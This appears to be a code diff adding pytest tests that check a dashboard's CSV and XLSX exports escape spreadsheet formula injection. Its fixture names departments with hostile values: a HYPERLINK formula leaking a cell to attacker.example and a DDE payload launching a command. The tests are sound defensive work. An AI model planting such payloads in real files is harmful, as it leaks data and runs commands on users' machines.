@@ -162,3 +162,45 @@ def test_exports_speak_the_language_they_are_made_in(org_a, departments_a, today
     assert "Antwoorden,Kitchen,Antwoorden,minder dan 6 antwoorden" in text
     assert reader.trailer["/Root"]["/Lang"] == "fr"
     assert "moins de 6" in reader.pages[0].extract_text()
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+
+
+@pytest.fixture
+def hostile_names(org_a, departments_a, today):
+    """Department and campaign names that a spreadsheet would run as formulas, with the
+    figures of a closed campaign (so every table is exported)."""
+    care, kitchen, _office = departments_a
+    care.name, kitchen.name = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
+    care.save()
+    kitchen.save()
+    campaign = closed_campaign(org_a, today=today, name="+Wave -1")
+    add_responses(campaign, care, 6, overall=60.0)
+    add_responses(campaign, kitchen, 6, overall=40.0)
+    with translation.override("en"):
+        yield campaign_dashboard(campaign, today=today)
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(hostile_names):
+    """The OWASP rule: a text cell starting with = + - @ tab or CR gets a leading quote."""
+    rows = _csv_rows(hostile_names)
+    groups = {group for (_table, group, _measure) in rows}
+    assert "'" + FORMULA in groups
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in groups
+    assert not any(cell.startswith(("=", "+", "-", "@")) for key in rows for cell in key)
+
+    workbook = load_workbook(io.BytesIO(exports.dashboard_xlsx(hostile_names)))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert "'" + FORMULA in texts
+    assert all(cell.data_type != "f" for cell in cells)  # no formula anywhere
+    assert "Organisation A – +Wave -1" in texts  # only a cell's start matters
+
+
+def test_negative_numbers_stay_numbers_in_the_spreadsheet():
+    assert exports._inert(-3.5) == -3.5
+    assert exports._inert("-3.5") == "'-3.5"
+    assert exports._inert("\tx") == "'\tx"
+    assert exports._inert("\rx") == "'\rx"
+    assert exports._inert("Care") == "Care"
